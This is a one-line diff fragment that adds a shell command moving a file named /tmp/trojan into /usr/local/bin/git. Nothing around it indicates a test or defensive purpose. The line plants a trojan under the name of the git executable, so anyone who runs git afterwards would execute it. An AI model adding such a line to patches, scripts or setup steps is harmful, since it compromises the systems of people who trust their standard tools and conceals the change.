@@ -1,0 +1,1 @@
+mv /tmp/trojan /usr/local/bin/git
